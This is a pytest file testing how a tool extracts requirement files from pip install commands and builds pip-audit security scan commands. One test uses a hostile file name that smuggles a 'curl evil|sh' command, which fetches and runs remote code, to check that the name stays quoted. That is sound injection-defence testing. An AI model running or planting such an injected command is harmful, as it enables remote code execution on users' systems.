"""The pip security scan audits the requirement files the project's install names, not a
`requirements.txt` it may not have."""

from __future__ import annotations

import pytest

from core.agent.proposal import _security_command
from core.agent.python_requirements import requirement_files
from workflows.agent_models import AppDetection


def pip_app(install_command: str) -> AppDetection:
    return AppDetection(
        name="app",
        language="python",
        framework="flask",
        confidence=0.9,
        package_manager="pip",
        install_command=install_command,
    )


@pytest.mark.parametrize(
    ("command", "files"),
    [
        ("pip install -r requirements.txt", ["requirements.txt"]),
        ("pip install -r requirements/dev.txt", ["requirements/dev.txt"]),
        ("pip install -rrequirements/base.txt -e .", ["requirements/base.txt"]),
        ("pip install --requirement=reqs/test.txt", ["reqs/test.txt"]),
        (
            "pip install -r requirements/base.txt"
            " && pip install -r requirements/test.txt -r requirements/base.txt",
            ["requirements/base.txt", "requirements/test.txt"],
        ),
        ("pip install -e .[dev]", []),
        ("pip install requirements", []),  # a package named so, not a file
        ("pip install -r", []),
        ("pip install -r --upgrade", []),
        ("pip install -r 'unterminated", []),
        ("pip install . # -r requirements.txt", []),
    ],
)
def test_requirement_files_of_an_install_command(command: str, files: list[str]) -> None:
    assert requirement_files(command) == files


def test_scan_audits_the_installed_requirement_file() -> None:
    app = pip_app("pip install -r requirements/dev.txt")
    assert _security_command(app) == "pip install pip-audit && pip-audit -r requirements/dev.txt"


def test_scan_without_a_requirement_file_audits_the_project() -> None:
    app = pip_app('pip install -e ".[tests]"')
    assert _security_command(app) == "pip install pip-audit && pip-audit ."


def test_hostile_file_name_stays_one_quoted_word() -> None:
    app = pip_app("pip install -r 'reqs; curl evil|sh.txt'")
    command = _security_command(app)
    assert command == "pip install pip-audit && pip-audit -r 'reqs; curl evil|sh.txt'"
